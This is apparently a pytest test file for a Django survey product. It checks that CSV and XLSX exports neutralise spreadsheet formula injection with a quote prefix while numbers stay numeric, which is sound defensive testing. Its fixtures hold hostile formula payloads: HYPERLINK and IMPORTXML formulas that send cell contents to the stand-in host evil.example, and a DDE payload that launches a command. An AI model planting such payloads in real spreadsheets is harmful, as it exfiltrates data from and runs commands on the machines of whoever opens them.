"""Files that can't hurt (issue 11): names that a spreadsheet would run as formulas are neutralised in every
CSV and XLSX the product writes (OWASP), and numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from dimios_web.spreadsheets import FORMULA_STARTS, is_formula_like, safe_text

pytestmark = pytest.mark.django_db

HOSTILE = {
    "Socialförvaltningen": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "Äldreomsorg": "+SUM(1+1)*cmd|' /C calc'!A0",
    "Utbildningsförvaltningen": '@IMPORTXML(CONCAT("http://evil.example/",A2),"//a")',
}


@pytest.fixture
def hostile_round(organisation, settings, tmp_path):
    from tests.reports.conftest import make_closed_round

    settings.MEDIA_ROOT = tmp_path / "media"
    for old, new in HOSTILE.items():
        organisation.departments.filter(name=old).update(name=new)
    organisation.respondent_groups.filter(position=1).update(name="-2+3")
    return make_closed_round(organisation)


def _csv_cells(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def _assert_safe_csv(cells: list[str]) -> None:
    dangerous = [c for c in cells if is_formula_like(c)]
    assert not dangerous, f"cells a spreadsheet would run as formulas: {dangerous}"
    for name in HOSTILE.values():
        assert "'" + name in cells, f"{name!r} missing, or not escaped"


def _assert_safe_xlsx(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [c.coordinate + " " + str(c.value) for c in cells if c.data_type == "f"]
    assert not formulas, f"live formulas in the workbook: {formulas}"
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for name in HOSTILE.values():
        assert name in texts, f"{name!r} is not in the workbook as it was written"
        assert texts[name].quotePrefix, f"{name!r} is not marked as text (quote prefix)"
    numbers = [c.value for c in cells if isinstance(c.value, int | float) and not isinstance(c.value, bool)]
    assert numbers, "the figures must stay numbers"
    return cells


def test_the_dashboard_csv_and_xlsx_neutralise_formulas(client, hostile_round, organisation, management):
    client.force_login(management)
    base = reverse("reports:dashboard_export", args=[organisation.code, "csv"])
    response = client.get(base, {"round": hostile_round.pk})
    assert response.status_code == 200
    cells = _csv_cells(response.content.decode("utf-8-sig"), ";")
    _assert_safe_csv(cells)
    assert any(c.replace(",", "", 1).isdigit() for c in cells), "numbers stay plain numbers"
    response = client.get(
        reverse("reports:dashboard_export", args=[organisation.code, "xlsx"]), {"round": hostile_round.pk}
    )
    assert response.status_code == 200
    _assert_safe_xlsx(response.content)


def test_the_results_csv_neutralises_formulas(client, hostile_round, organisation, org_admin):
    client.force_login(org_admin)
    url = reverse("maturity:results_download", args=[organisation.code, hostile_round.period.code, "csv"])
    response = client.get(url)
    assert response.status_code == 200
    cells = _csv_cells(response.content.decode("utf-8-sig"), ",")
    _assert_safe_csv(cells)
    assert "'-2+3" in cells  # the group's name


def test_the_annual_report_xlsx_neutralises_formulas(hostile_round, organisation):
    from reports.selectors.report_content import get_report_content
    from reports.xlsx_report import build_xlsx
    from surveys.access import Visibility

    content = get_report_content(
        organisation=organisation, year=hostile_round.period.year, visibility=Visibility.everything()
    )
    _assert_safe_xlsx(build_xlsx({**content, "figures": {}}))


@pytest.mark.parametrize("value", ["-3,2", "+1,5", "-0.25", "12,5 %", "-12,5\u00a0%", "-1 234,5"])
def test_formatted_numbers_are_not_escaped(value):
    assert safe_text(value) == value


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_escaped(start):
    assert safe_text(start + "cmd") == "'" + start + "cmd"


def test_numbers_pass_untouched():
    assert safe_text(-3.5) == -3.5 and safe_text(7) == 7


def test_the_streaming_xlsx_writer_keeps_every_value_its_format_and_neutralises_headers_and_cells():
    """The one XLSX writer streams its rows (write-only) and reuses one formatted cell per column: every row
    must still hold its own number with the column's format, a formula-like text anywhere (a header, a text
    in a number column) must be a quoted text, and a true/false or an empty cell stays what it was."""
    from dimios_web.spreadsheets import add_sheet, new_workbook, workbook_bytes

    workbook = new_workbook()
    rows = [[f"Org {i}", i * 1.25, i, "" if i % 3 else "=1+1"] for i in range(1, 201)]
    rows.append(["@SUM(A1)", "-2+3", True, None])
    add_sheet(
        workbook,
        "data",
        rows,
        header=['=HYPERLINK("http://evil.example")', "Percent", "Count", "Note"],
        number_formats={1: "0.0", 2: "0"},
        freeze="A2",
    )
    sheet = load_workbook(io.BytesIO(workbook_bytes(workbook)))["data"]
    header = sheet[1]
    assert header[0].value == '=HYPERLINK("http://evil.example")' and header[0].data_type == "s"
    assert header[0].quotePrefix and header[1].font.b
    assert sheet.freeze_panes == "A2"
    for i in range(1, 201):
        name, percent, count, note = sheet[i + 1]
        assert (name.value, percent.value, count.value) == (f"Org {i}", i * 1.25, i)
        assert percent.number_format == "0.0" and count.number_format == "0"
        if i % 3 == 0:
            assert note.value == "=1+1" and note.data_type == "s" and note.quotePrefix
        else:
            assert note.value is None
    last = sheet[202]
    assert last[0].value == "@SUM(A1)" and last[0].quotePrefix
    assert last[1].value == "-2+3" and last[1].quotePrefix and last[1].data_type == "s"
    assert last[2].value is True
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
